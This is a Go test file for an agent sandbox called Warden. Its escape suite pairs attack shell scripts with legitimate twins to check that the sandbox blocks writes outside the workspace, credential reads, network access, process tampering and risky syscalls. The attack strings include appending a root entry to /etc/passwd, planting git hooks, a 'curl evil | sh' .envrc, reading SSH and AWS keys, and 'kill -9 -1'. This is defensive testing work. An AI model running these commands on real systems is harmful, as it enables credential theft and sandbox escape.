package sandbox

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// The escape suite attacks a workspace-write, no-network sandbox on this
// kernel. Every case runs an attack that must fail, and its legitimate twin
// inside the workspace that must still work, so a sandbox that simply breaks
// everything cannot pass.

// escEnv is one case's world: a workspace (the cwd and only writable root)
// and an outside directory with a file in it, plus listeners and a process
// outside the sandbox shared by all cases.
type escEnv struct {
	ws, out, outFile string
	shared           *escShared
}

type escShared struct {
	probe     string // this test binary, the attack program
	tcpAddr   string // a TCP listener outside
	udpAddr   string
	udpGot    chan string
	sockPath  string // a pathname unix socket outside, where services keep theirs
	topSock   string // one at the top of /tmp
	envSock   string // one deep in a test directory, named by $SSH_AUTH_SOCK
	abstract  string // an abstract unix socket outside (with @)
	victimPid int    // a process outside
}

type escapeCase struct {
	name   string
	prep   func(t *testing.T, e *escEnv)
	attack string // a shell script; must fail
	twin   string // a shell script; must succeed
	// env adds variables to both runs ($WS is replaced).
	env map[string]string
	// attackPolicy and twinPolicy adjust the policy of each run.
	attackPolicy, twinPolicy func(*Policy)
	limits                   Limits
	// check looks outside after the attack: nothing may have changed.
	check func(t *testing.T, e *escEnv)
}

func escapePolicy() Policy {
	return Policy{Mode: WorkspaceWrite, ExcludeSlashTmp: true, ExcludeTmpdir: true}
}

func withNetwork(p *Policy) { p.Network = NetworkOn }

// inWorkspace makes ws the session's workspace, its writable root.
func inWorkspace(p Policy, ws string) Policy {
	p.Workspace = []string{ws}
	return p
}

// withWardenDirs protects where Warden keeps its config and state when the
// workspace is $HOME and XDG is unset ($WS is replaced by the workspace).
func withWardenDirs(p *Policy) {
	p.ProtectedPaths = []string{"$WS/.config/warden", "$WS/.local/state/warden"}
}

// withOutHome makes the outside directory the home whose credential stores
// the read policy hides ($OUT is replaced).
func withOutHome(p *Policy) { p.Reads.Home = "$OUT" }

func mkOutSecrets(t *testing.T, e *escEnv) {
	for rel, content := range map[string]string{".ssh/id_ed25519": "KEY", ".aws/credentials": "KEY", ".netrc": "KEY"} {
		os.MkdirAll(filepath.Dir(filepath.Join(e.out, rel)), 0o700)
		if err := os.WriteFile(filepath.Join(e.out, rel), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

func mkDotConfig(t *testing.T, e *escEnv) {
	if err := os.MkdirAll(filepath.Join(e.ws, ".config"), 0o755); err != nil {
		t.Fatal(err)
	}
}

// mkNestedGit makes repositories inside the workspace, as a user's vendored
// clones, submodules and worktrees are: sub/.git, a deep one, a .git file
// pointing into modules/, and a bare one named only by $GIT_DIR.
func mkNestedGit(t *testing.T, e *escEnv) {
	for _, d := range []string{"sub/.git/hooks", "a/b/c/deep/.git/hooks", "modules/wt/hooks", "wt", "elsewhere/repo.git/hooks"} {
		if err := os.MkdirAll(filepath.Join(e.ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{"sub/.git/config", "a/b/c/deep/.git/config", "modules/wt/config", "elsewhere/repo.git/config"} {
		os.WriteFile(filepath.Join(e.ws, f), []byte("[core]\n"), 0o644)
	}
	os.WriteFile(filepath.Join(e.ws, "wt/.git"), []byte("gitdir: ../modules/wt\n"), 0o644)
}

func unchanged(path, want string) func(t *testing.T, e *escEnv) {
	return func(t *testing.T, e *escEnv) {
		b, err := os.ReadFile(strings.ReplaceAll(strings.ReplaceAll(path, "$OUT", e.out), "$WS", e.ws))
		if err != nil || string(b) != want {
			t.Errorf("%s changed: %q %v", path, b, err)
		}
	}
}

func absent(path string) func(t *testing.T, e *escEnv) {
	return func(t *testing.T, e *escEnv) {
		p := strings.ReplaceAll(strings.ReplaceAll(path, "$OUT", e.out), "$WS", e.ws)
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was created", p)
		}
	}
}

func mkGit(t *testing.T, e *escEnv) {
	for _, d := range []string{".git/hooks", "hooks"} {
		if err := os.MkdirAll(filepath.Join(e.ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(e.ws, ".git/config"), []byte("[core]\n"), 0o644)
	os.WriteFile(filepath.Join(e.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.WriteFile(filepath.Join(e.ws, "config"), []byte("[core]\n"), 0o644)
}

const (
	afInet, afInet6, afPacket, afNetlink, afVsock, afAlg, afCan, afBluetooth, afXdp = 2, 10, 17, 16, 40, 38, 29, 31, 44
	sockStream, sockDgram, sockRaw                                                  = 1, 2, 3
)

func socketCase(name string, fam, typ, proto int) escapeCase {
	return escapeCase{
		name:   name,
		attack: fmt.Sprintf(`"$PROBE" socket %d %d %d`, fam, typ, proto),
		twin:   `"$PROBE" socket 1 2 0`, // AF_UNIX datagram
	}
}

func escapeCases() []escapeCase {
	return []escapeCase{
		// Filesystem: writing outside the writable roots.
		{name: "write outside by absolute path", attack: `echo x > "$OUT/new"`, twin: `echo x > "$WS/new" && test -s "$WS/new"`, check: absent("$OUT/new")},
		{name: "overwrite an outside file", attack: `echo evil > "$OUT/file"`, twin: `echo ok > "$WS/file"`, check: unchanged("$OUT/file", "outside\n")},
		{name: "write outside through ..", attack: `mkdir -p sub && echo x > "sub/../$(realpath --relative-to="$WS" "$OUT")/dots"`, twin: `mkdir -p sub && echo x > sub/../dots && test -f dots`, check: absent("$OUT/dots")},
		{name: "write through a symlink pointing out", attack: `ln -s "$OUT" link && echo x > link/via-link`, twin: `mkdir -p in && ln -s in inlink && echo x > inlink/f && test -f in/f`, check: absent("$OUT/via-link")},
		{name: "hardlink an outside file in and write it", attack: `ln "$OUT/file" hl && echo evil >> hl`, twin: `echo a > a && ln a b && echo b >> b && grep -q b a`, check: unchanged("$OUT/file", "outside\n")},
		{name: "rename a workspace file out", attack: `echo x > mine && mv mine "$OUT/moved"`, twin: `echo x > mine && mkdir -p d && mv mine d/moved && test -f d/moved`, check: absent("$OUT/moved")},
		{name: "rename an outside file in", attack: `mv "$OUT/file" stolen`, twin: `echo x > x1 && mv x1 x2`, check: unchanged("$OUT/file", "outside\n")},
		{name: "write via /proc/self/root", attack: `echo x > "/proc/self/root$OUT/procroot"`, twin: `echo x > "/proc/self/root$WS/procroot" && test -f procroot`, check: absent("$OUT/procroot")},
		{name: "write via /proc/self/cwd after cd out", attack: `cd "$OUT" && echo x > /proc/self/cwd/proccwd`, twin: `mkdir -p s && cd s && echo x > /proc/self/cwd/proccwd && test -f "$WS/s/proccwd"`, check: absent("$OUT/proccwd")},
		{name: "truncate an outside file", attack: `truncate -s 0 "$OUT/file"`, twin: `echo abc > t && truncate -s 0 t && test ! -s t`, check: unchanged("$OUT/file", "outside\n")},
		{name: "delete an outside file", attack: `rm -f "$OUT/file" && test ! -e "$OUT/file"`, twin: `echo x > gone && rm gone && test ! -e gone`, check: unchanged("$OUT/file", "outside\n")},
		{name: "chmod outside", attack: `chmod 777 "$OUT/file"`, twin: `echo x > m && chmod 700 m && test -x m`, check: func(t *testing.T, e *escEnv) {
			if st, _ := os.Stat(e.outFile); st.Mode().Perm() != 0o644 {
				t.Errorf("mode changed to %v", st.Mode())
			}
		}},
		{name: "chown outside", attack: `chown "$(id -u):$(id -g)" "$OUT/file"`, twin: `echo x > o && chown "$(id -u):$(id -g)" o`},
		{name: "utime outside", attack: `touch -d 2001-01-01 "$OUT/file"`, twin: `echo x > u && touch -d 2001-01-01 u`, check: func(t *testing.T, e *escEnv) {
			if st, _ := os.Stat(e.outFile); st.ModTime().Year() == 2001 {
				t.Error("outside mtime changed")
			}
		}},
		{name: "write a system file", attack: `echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd`, twin: `echo 'fine' >> "$WS/passwd"`},
		{name: "mknod a device", attack: `mknod dev c 1 3`, twin: `mkfifo fifo && test -p fifo`},
		{name: "mount a filesystem", attack: `mkdir -p m && "$PROBE" syscall ` + strconv.Itoa(unix.SYS_MOUNT), twin: `mkdir -p m2 && test -d m2`},
		{name: "unshare into new namespaces", attack: `unshare -Ur true`, twin: `sh -c true`},
		{name: "write the host's /dev/shm", attack: `ls /dev/shm | grep -q warden-host-marker`, twin: `echo x > /dev/shm/private && test -f /dev/shm/private`, prep: func(t *testing.T, e *escEnv) {
			os.WriteFile("/dev/shm/warden-host-marker", nil, 0o644)
			t.Cleanup(func() { os.Remove("/dev/shm/warden-host-marker") })
		}},
		{name: "write /tmp when it is not a writable root", attack: `echo x > "$OUT/../tmp-escape"`, twin: `echo x > "$OUT/../tmp-granted"`, twinPolicy: func(p *Policy) { p.ExcludeSlashTmp = false }, check: absent("$OUT/../tmp-escape")},
		{name: "file size limit", attack: `head -c 2000000 /dev/zero > big`, twin: `head -c 100000 /dev/zero > small`, limits: Limits{FileSize: 1 << 20}},
		{name: "raise the core dump limit", attack: `ulimit -c unlimited`, twin: `test "$(ulimit -c)" = 0`},

		// Protected paths inside the workspace.
		{name: "write .git/hooks", prep: mkGit, attack: `printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit`, twin: `printf '#!/bin/sh\n' > hooks/pre-commit`, check: absent("$WS/.git/hooks/pre-commit")},
		{name: "write .git/config", prep: mkGit, attack: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, twin: `printf '[x]\n' >> config`, check: unchanged("$WS/.git/config", "[core]\n")},
		{name: "chmod inside .git", prep: mkGit, attack: `chmod 777 .git/config`, twin: `chmod 600 config`},
		{name: "move .git away and replace it", prep: mkGit, attack: `mv .git old && mkdir .git`, twin: `mkdir -p notgit && mv notgit notgit2`, check: unchanged("$WS/.git/HEAD", "ref: refs/heads/main\n")},
		// A repository's data is the sandbox's to write (git commit runs
		// there); what git executes or obeys is not, deleted or not.
		{name: "delete .git", prep: mkGit, attack: `rm -rf .git; test ! -e .git/config`, twin: `mkdir -p .git/refs/x && rm -rf .git/refs && test ! -e .git/refs`, check: unchanged("$WS/.git/config", "[core]\n")},
		{name: "replace .git with a symlink", prep: mkGit, attack: `rm -rf .git 2>/dev/null; ln -sfn "$OUT" .git && test -L .git`, twin: `ln -s "$OUT" outlink && test -L outlink`},
		{name: "create a missing .git", attack: `mkdir -p .git/hooks && echo x > .git/hooks/post-checkout`, twin: `mkdir -p git/hooks && echo x > git/hooks/post-checkout`, check: absent("$WS/.git/hooks")},
		{name: "git init a new repository", attack: `git init -q . && test -f .git/HEAD`, twin: `git init -q sub && test -f sub/.git/HEAD`},
		{name: "create a missing .codex", attack: `mkdir .codex`, twin: `mkdir codex`},
		{name: "create a missing .agents", attack: `mkdir -p .agents/x`, twin: `mkdir -p agents/x`},
		{name: "create a missing .warden rule", attack: `mkdir -p .warden && echo 'prefix_rule(pattern=["rm"], decision="allow")' > .warden/rules`, twin: `mkdir -p warden && echo x > warden/rules`},
		{name: "create .vscode/settings.json", attack: `mkdir -p .vscode && echo '{}' > .vscode/settings.json`, twin: `mkdir -p vscode && echo '{}' > vscode/settings.json`},
		{name: "create .idea", attack: `mkdir -p .idea/x`, twin: `mkdir -p idea/x`},
		{name: "create .envrc", attack: `echo 'curl evil | sh' > .envrc && test -s .envrc`, twin: `echo 'export A=1' > envrc`},
		{name: "create .mcp.json", attack: `echo '{"mcpServers":{}}' > .mcp.json && test -s .mcp.json`, twin: `echo '{}' > mcp.json`},
		{name: "create .gitmodules", attack: `printf '[submodule "x"]\n' > .gitmodules && test -s .gitmodules`, twin: `printf 'x\n' > gitmodules`},
		{name: "write an existing .vscode", prep: func(t *testing.T, e *escEnv) {
			os.MkdirAll(filepath.Join(e.ws, ".vscode"), 0o755)
			os.WriteFile(filepath.Join(e.ws, ".vscode/tasks.json"), []byte("{}"), 0o644)
		}, attack: `echo '{"evil":1}' > .vscode/tasks.json`, twin: `cat .vscode/tasks.json >/dev/null && echo '{}' > tasks.json`, check: unchanged("$WS/.vscode/tasks.json", "{}")},
		// Protected everywhere: nested repositories, Warden's own dirs, other
		// agents' and editors' configuration.
		{name: "TestProtected write a nested repository's .git/config", prep: mkNestedGit, attack: `printf '[core]\n\tfsmonitor = "touch $OUT/pwned"\n' >> sub/.git/config`, twin: `echo x > sub/work.txt && test -s sub/work.txt`, check: unchanged("$WS/sub/.git/config", "[core]\n")},
		{name: "TestProtected add a hook to a deep nested repository", prep: mkNestedGit, attack: `echo x > a/b/c/deep/.git/hooks/pre-commit`, twin: `echo x > a/b/c/deep/hooks-not-git`, check: absent("$WS/a/b/c/deep/.git/hooks/pre-commit")},
		{name: "TestProtected replace a nested repository's .git", prep: mkNestedGit, attack: `rm -rf sub/.git 2>/dev/null; mv sub/.git sub/old 2>/dev/null; test ! -e sub/.git/config`, twin: `mkdir -p sub/x && rm -rf sub/x`, check: unchanged("$WS/sub/.git/config", "[core]\n")},
		{name: "TestProtected write a nested .git file's gitdir target", prep: mkNestedGit, attack: `echo x > modules/wt/hooks/post-checkout`, twin: `echo x > wt/notes`, check: absent("$WS/modules/wt/hooks/post-checkout")},
		{name: "TestProtected write the repository named by $GIT_DIR", prep: mkNestedGit, env: map[string]string{"GIT_DIR": "$WS/elsewhere/repo.git"}, attack: `echo evil >> "$GIT_DIR/config"`, twin: `echo ok > elsewhere/notes`, check: unchanged("$WS/elsewhere/repo.git/config", "[core]\n")},
		{name: "TestProtected create Warden's missing rules dir in a home workspace", prep: mkDotConfig, attackPolicy: withWardenDirs, attack: `mkdir -p .config/warden/rules && echo 'prefix_rule(pattern=["sh"], decision="allow")' > .config/warden/rules/x.rules`, twinPolicy: withWardenDirs, twin: `mkdir -p .config/other && echo x > .config/other/x.rules`, check: absent("$WS/.config/warden/rules")},
		{name: "TestProtected move .config away to recreate Warden's dir", prep: mkDotConfig, attackPolicy: withWardenDirs, attack: `mv .config config-old && mkdir -p .config/warden && echo x > .config/warden/config.toml`, twinPolicy: withWardenDirs, twin: `mkdir -p cfg && mv cfg cfg2`, check: absent("$WS/.config/warden/config.toml")},
		{name: "TestProtected create Warden's state dir when its parents are missing", attackPolicy: withWardenDirs, attack: `mkdir -p .local/state/warden && echo x > .local/state/warden/audit.log`, twinPolicy: withWardenDirs, twin: `mkdir -p local/state/warden && echo x > local/state/warden/audit.log`, check: absent("$WS/.local/state/warden")},
		{name: "TestProtected write Warden's existing audit log", prep: func(t *testing.T, e *escEnv) {
			os.MkdirAll(filepath.Join(e.ws, ".local/state/warden"), 0o755)
			os.WriteFile(filepath.Join(e.ws, ".local/state/warden/audit.log"), []byte("{}\n"), 0o644)
		}, attackPolicy: withWardenDirs, attack: `echo forged >> .local/state/warden/audit.log`, twinPolicy: withWardenDirs, twin: `echo ok >> .local/state/other.log`, check: unchanged("$WS/.local/state/warden/audit.log", "{}\n")},
		{name: "TestProtected create .claude/settings.json", attack: `mkdir -p .claude && echo '{}' > .claude/settings.json`, twin: `echo '{}' > .prettierrc && test -s .prettierrc`, check: absent("$WS/.claude/settings.json")},
		{name: "TestProtected create .nvim.lua", attack: `echo 'os.execute("id")' > .nvim.lua && test -s .nvim.lua`, twin: `echo 'x' > nvim.lua`},
		{name: "TestProtected create .cursor, .zed, .helix", attack: `mkdir -p .cursor/x || mkdir -p .zed/x || mkdir -p .helix/x`, twin: `mkdir -p cursor/x zed/x helix/x`, check: absent("$WS/.cursor/x")},
		{name: "TestProtected create .exrc and .nvimrc", attack: `echo '!id' > .exrc || echo '!id' > .nvimrc`, twin: `echo x > exrc`},
		{name: "write a gitdir: file's target", prep: func(t *testing.T, e *escEnv) {
			os.MkdirAll(filepath.Join(e.ws, "store/hooks"), 0o755)
			os.MkdirAll(filepath.Join(e.ws, "other/hooks"), 0o755)
			os.WriteFile(filepath.Join(e.ws, ".git"), []byte("gitdir: store\n"), 0o644)
		}, attack: `echo x > store/hooks/pre-commit`, twin: `echo x > other/hooks/pre-commit`, check: absent("$WS/store/hooks/pre-commit")},

		// Reads: credential stores in a home outside the workspace ($OUT).
		{name: "TestReadPolicy read an ssh key in the home", prep: mkOutSecrets, attackPolicy: withOutHome, attack: `cat "$OUT/.ssh/id_ed25519"`, twinPolicy: withOutHome, twin: `grep -q outside "$OUT/file"`},
		{name: "TestReadPolicy read a key through a workspace link", prep: mkOutSecrets, attackPolicy: withOutHome, attack: `ln -s "$OUT/.aws" aws && cat aws/credentials`, twinPolicy: withOutHome, twin: `ln -s "$OUT/file" f && grep -q outside f`},
		{name: "TestReadPolicy read a key through /proc/self/root", prep: mkOutSecrets, attackPolicy: withOutHome, attack: `grep -q KEY "/proc/self/root$OUT/.netrc"`, twinPolicy: withOutHome, twin: `grep -q outside "/proc/self/root$OUT/file"`},
		{name: "TestReadPolicy list a hidden directory", prep: mkOutSecrets, attackPolicy: withOutHome, attack: `ls "$OUT/.ssh" | grep -q id_`, twinPolicy: withOutHome, twin: `ls "$OUT" | grep -q file`},

		// Network.
		{name: "TCP connect", attack: `"$PROBE" dial-tcp "$TCP"`, twin: `"$PROBE" dial-tcp "$TCP"`, twinPolicy: withNetwork},
		{name: "TCP listen", attack: `"$PROBE" listen-tcp`, twin: `"$PROBE" listen-tcp`, twinPolicy: withNetwork},
		{name: "MPTCP connect", attack: `"$PROBE" dial-mptcp "$TCP"`, twin: `"$PROBE" dial-mptcp "$TCP"`, twinPolicy: withNetwork},
		{name: "UDP send", attack: `"$PROBE" send-udp "$UDP"`, twin: `"$PROBE" send-udp "$UDP"`, twinPolicy: withNetwork},
		{name: "UDP DNS query to a public resolver", attack: `"$PROBE" send-udp 8.8.8.8:53`, twin: `"$PROBE" socketpair`},
		{name: "bash /dev/tcp", attack: `bash -c 'echo hi > /dev/tcp/${TCP%:*}/${TCP#*:}'`, twin: `bash -c 'echo hi > /dev/tcp/${TCP%:*}/${TCP#*:}'`, twinPolicy: withNetwork},
		{name: "DNS lookup", attack: `getent hosts example.com`, twin: `getent hosts localhost`},
		socketCase("raw ICMP socket", afInet, sockRaw, 1),
		socketCase("IPv6 TCP socket", afInet6, sockStream, 0),
		socketCase("AF_PACKET socket", afPacket, sockRaw, 0),
		socketCase("AF_NETLINK socket", afNetlink, sockRaw, 0),
		socketCase("AF_VSOCK socket", afVsock, sockStream, 0),
		socketCase("AF_ALG socket", afAlg, 5, 0),
		socketCase("AF_CAN socket", afCan, sockRaw, 1),
		socketCase("AF_BLUETOOTH socket", afBluetooth, sockRaw, 0),
		socketCase("AF_XDP socket", afXdp, sockRaw, 0),
		{name: "pathname unix socket outside", attack: `"$PROBE" dial-unix "$SOCK"`, twin: `"$PROBE" unix-roundtrip "$WS/inside.sock"`},
		{name: "pathname unix socket at the top of /tmp", attack: `"$PROBE" dial-unix "$TOPSOCK"`, twin: `"$PROBE" unix-roundtrip "$WS/inside2.sock"`},
		{name: "ssh-agent socket named by $SSH_AUTH_SOCK", attack: `"$PROBE" dial-unix "$SSH_AUTH_SOCK"`, twin: `"$PROBE" unix-roundtrip "$WS/agent.sock"`},
		{name: "pathname unix socket outside with network on", attackPolicy: withNetwork, attack: `"$PROBE" dial-unix "$SOCK"`, twinPolicy: withNetwork, twin: `"$PROBE" unix-roundtrip "$WS/inside.sock"`},
		{name: "abstract unix socket outside", attack: `"$PROBE" dial-unix "$ABSTRACT"`, twin: `"$PROBE" unix-roundtrip "@warden-inside-$NONCE"`},
		{name: "abstract unix socket outside with network on", attack: `"$PROBE" dial-unix "$ABSTRACT"`, attackPolicy: withNetwork, twin: `"$PROBE" unix-roundtrip "@warden-inside-$NONCE"`, twinPolicy: withNetwork},

		// Processes.
		{name: "signal an outside process", attack: `"$PROBE" kill "$VICTIM"`, twin: `sleep 30 & "$PROBE" kill $!`, check: func(t *testing.T, e *escEnv) {
			if unix.Kill(e.shared.victimPid, 0) != nil {
				t.Error("the outside process died")
			}
		}},
		{name: "kill every process", attack: `kill -9 -1; sleep 0.2; kill -0 "$VICTIM"`, twin: `sleep 30 & kill $! && wait`, check: func(t *testing.T, e *escEnv) {
			if unix.Kill(e.shared.victimPid, 0) != nil {
				t.Error("the outside process died")
			}
		}},
		{name: "ptrace an outside process", attack: `"$PROBE" ptrace "$VICTIM"`, twin: `sleep 30 & kill -0 $!`},
		{name: "ptrace a process inside", attack: `sleep 30 & "$PROBE" ptrace $!`, twin: `sleep 30 & kill -0 $! && kill $!`},
		{name: "read an outside process's environ", attack: `cat "/proc/$VICTIM/environ" | tr '\0' '\n' | grep -q WARDEN_VICTIM`, twin: `cat /proc/self/environ | tr '\0' '\n' | grep -q PATH=`},
		{name: "see or signal the warden process", attack: `kill -0 "$WARDEN_PID" || cat "/proc/$WARDEN_PID/environ"`, twin: `kill -0 $$`},
		{name: "process_vm_readv", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_PROCESS_VM_READV), twin: `"$PROBE" getpid`},
		{name: "secrets in the environment", attack: `test -n "$OPENAI_API_KEY$GITHUB_TOKEN$AWS_SECRET_ACCESS_KEY"`, twin: `test -n "$HOME$PATH"`},
		{name: "TIOCSTI input injection", attack: `"$PROBE" tiocsti`, twin: `"$PROBE" tiocsti write`},
		{name: "fork bomb", attack: `"$PROBE" fork 400`, twin: `"$PROBE" fork 10`, limits: Limits{Processes: 40}},
		{name: "no capabilities left", attack: `chroot / true`, twin: `"$PROBE" caps`},
		{name: "the helper's status pipe", attack: `readlink /proc/1/fd/3 || readlink /proc/1/fd/4`, twin: `test "$(exec ls /proc/self/fd | tr '\n' ' ')" = "0 1 2 3 "`},

		// Kernel attack surface.
		{name: "io_uring", attack: `"$PROBE" io_uring`, twin: `cat /dev/null`},
		{name: "bpf", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_BPF), twin: `"$PROBE" getpid`},
		{name: "perf_event_open", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_PERF_EVENT_OPEN), twin: `"$PROBE" getpid`},
		{name: "keyctl", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_KEYCTL), twin: `"$PROBE" getpid`},
		{name: "userfaultfd", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_USERFAULTFD), twin: `"$PROBE" getpid`},
		{name: "x32 syscall numbers", attack: `"$PROBE" x32-getpid`, twin: `"$PROBE" getpid`},
		{name: "clone into a new user namespace", attack: `"$PROBE" clone-newuser`, twin: `sh -c 'true & wait'`},
		{name: "unusual personality", attack: `"$PROBE" personality 0x400000`, twin: `"$PROBE" personality 0xffffffff`},
	}
}

// TestEscapeSuite runs every attack on a helper started for it, and
// TestEscapeSuiteOnSpares on a spare helper started ahead of need.
func TestEscapeSuite(t *testing.T) { escapeSuite(t, false) }

func TestEscapeSuiteOnSpares(t *testing.T) { escapeSuite(t, true) }

func escapeSuite(t *testing.T, onSpares bool) {
	if os.Getenv("WARDEN_ESCAPE_SKIP") != "" {
		t.Skip("WARDEN_ESCAPE_SKIP set")
	}
	if onSpares {
		withSpares(t)
	}
	shared := startEscapeFixtures(t)
	cases := escapeCases()
	if len(cases) < 45 {
		t.Fatalf("only %d escape cases", len(cases))
	}
	taken := sparesTaken.Load()
	if onSpares {
		// Two runs per case; only the first of each sandbox kind starts cold.
		defer func() {
			if n := sparesTaken.Load() - taken; n < int64(len(cases)) {
				t.Errorf("only %d of %d runs used a spare helper", n, 2*len(cases))
			}
		}()
	}
	for _, c := range cases {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			e := &escEnv{ws: t.TempDir(), out: t.TempDir(), shared: shared}
			e.outFile = filepath.Join(e.out, "file")
			if err := os.WriteFile(e.outFile, []byte("outside\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if c.prep != nil {
				c.prep(t, e)
			}
			attack := escapeRunEnv(t, e, c.attack, c.attackPolicy, c.limits, c.env)
			// A protected name the attack created may exist inside while it
			// runs; then the sandbox has moved it away and reports it.
			if attack.ExitCode == 0 && len(attack.Removed) == 0 {
				t.Errorf("attack succeeded:\n%s\n%s", c.attack, attack.Output)
			}
			for _, r := range attack.Removed {
				if _, err := os.Lstat(r.Path); err == nil || r.Kept == "" {
					t.Errorf("attack's %s not moved away: %+v", r.Shown, r)
				}
			}
			if c.check != nil {
				c.check(t, e)
			}
			twin := escapeRunEnv(t, e, c.twin, c.twinPolicy, c.limits, c.env)
			if twin.ExitCode != 0 {
				t.Errorf("legitimate twin failed (exit %d):\n%s\n%s", twin.ExitCode, c.twin, twin.Output)
			}
		})
	}
}

func escapeRun(t *testing.T, e *escEnv, script string, adjust func(*Policy), limits Limits) Result {
	t.Helper()
	return escapeRunEnv(t, e, script, adjust, limits, nil)
}

func escapeRunEnv(t *testing.T, e *escEnv, script string, adjust func(*Policy), limits Limits, env map[string]string) Result {
	t.Helper()
	pol := escapePolicy()
	pol.Workspace = []string{e.ws}
	if adjust != nil {
		adjust(&pol)
	}
	for i, p := range pol.ProtectedPaths {
		pol.ProtectedPaths[i] = strings.ReplaceAll(p, "$WS", e.ws)
	}
	pol.Reads.Home = strings.ReplaceAll(pol.Reads.Home, "$OUT", e.out)
	set := map[string]string{
		probeEnv: "1", "PROBE": e.shared.probe, "WS": e.ws, "OUT": e.out, "NONCE": nonce(),
		"TCP": e.shared.tcpAddr, "UDP": e.shared.udpAddr, "SOCK": e.shared.sockPath, "TOPSOCK": e.shared.topSock, "SSH_AUTH_SOCK": e.shared.envSock,
		"ABSTRACT": e.shared.abstract, "VICTIM": strconv.Itoa(e.shared.victimPid),
		"WARDEN_PID": strconv.Itoa(os.Getpid()),
	}
	for k, v := range env {
		set[k] = strings.ReplaceAll(v, "$WS", e.ws)
	}
	spares.settle() // when they are on, every run takes a spare
	res, err := Run(context.Background(), Command{
		Argv:   []string{"/bin/sh", "-c", script},
		Cwd:    e.ws,
		Policy: pol,
		Limits: limits,
		Helper: testHelper,
		BaseEnv: append(os.Environ(),
			"OPENAI_API_KEY=sk-test", "GITHUB_TOKEN=ghp_test", "AWS_SECRET_ACCESS_KEY=aws-test"),
		Env:     EnvPolicy{Set: set},
		Timeout: 20 * time.Second,
	})
	if err != nil {
		t.Fatalf("run %q: %v", script, err)
	}
	if res.TimedOut {
		t.Fatalf("run %q timed out", script)
	}
	return res
}

// runNonce numbers runs for nonce.
var runNonce atomic.Int64

// nonce is unique to one run on this machine. An abstract socket name is
// shared by everything in a network namespace, and with the network on the
// sandbox is in the host's: a name from $$ (small and the same in every pid
// namespace) collides with a concurrent test process's.
func nonce() string {
	return fmt.Sprintf("%d-%d", os.Getpid(), runNonce.Add(1))
}

// startEscapeFixtures starts what the attacks aim at, outside the sandbox.
func startEscapeFixtures(t *testing.T) *escShared {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	s := &escShared{probe: exe, udpGot: make(chan string, 16)}

	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tcp.Close() })
	go acceptAll(tcp)
	s.tcpAddr = tcp.Addr().String()

	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	s.udpAddr = udp.LocalAddr().String()

	// Where ssh-agent keeps its socket: /tmp/ssh-XXXX/agent.N.
	sockDir, err := os.MkdirTemp("/tmp", "ssh-warden-esc-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(sockDir) })
	s.sockPath = filepath.Join(sockDir, "agent.sock")
	us, err := net.Listen("unix", s.sockPath)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { us.Close() })
	go acceptAll(us)

	// Where PostgreSQL and MySQL keep theirs: the top of /tmp.
	s.topSock = fmt.Sprintf("/tmp/.s.warden-esc.%d", os.Getpid())
	ts, err := net.Listen("unix", s.topSock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ts.Close(); os.Remove(s.topSock) })
	go acceptAll(ts)

	deep := filepath.Join(t.TempDir(), "a", "b")
	os.MkdirAll(deep, 0o700)
	s.envSock = filepath.Join(deep, "agent.sock")
	es, err := net.Listen("unix", s.envSock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { es.Close() })
	go acceptAll(es)

	s.abstract = fmt.Sprintf("@warden-esc-%d", os.Getpid())
	as, err := net.Listen("unix", s.abstract)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { as.Close() })
	go acceptAll(as)

	victim := exec.Command("sleep", "300")
	victim.Env = append(os.Environ(), "WARDEN_VICTIM=1")
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { victim.Process.Kill(); victim.Wait() })
	s.victimPid = victim.Process.Pid
	return s
}

func acceptAll(l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		c.Write([]byte("hi"))
		c.Close()
	}
}

// TestReplacedHelperBinaryIsNotRun: the helper binary starts every sandbox
// with the user's full rights. When it lies in a writable root (a home
// directory opened as the workspace), a command must not be able to swap it
// for its own program, which the next sandbox start would run unconfined.
func TestReplacedHelperBinaryIsNotRun(t *testing.T) {
	for _, onSpares := range []bool{false, true} {
		t.Run(map[bool]string{false: "cold", true: "spare"}[onSpares], func(t *testing.T) {
			if onSpares {
				withSpares(t)
			}
			ws, out := t.TempDir(), t.TempDir()
			helper := filepath.Join(ws, "bin", "warden")
			os.MkdirAll(filepath.Dir(helper), 0o755)
			bin, err := os.ReadFile(testHelper)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(helper, bin, 0o755); err != nil {
				t.Fatal(err)
			}
			pwned := filepath.Join(out, "pwned")
			runWith := func(script string) Result {
				t.Helper()
				spares.settle()
				res, err := Run(context.Background(), Command{Argv: []string{"/bin/sh", "-c", script}, Cwd: ws,
					Policy: inWorkspace(escapePolicy(), ws), Helper: helper, Env: EnvPolicy{Set: map[string]string{"PWNED": pwned}}})
				if err != nil {
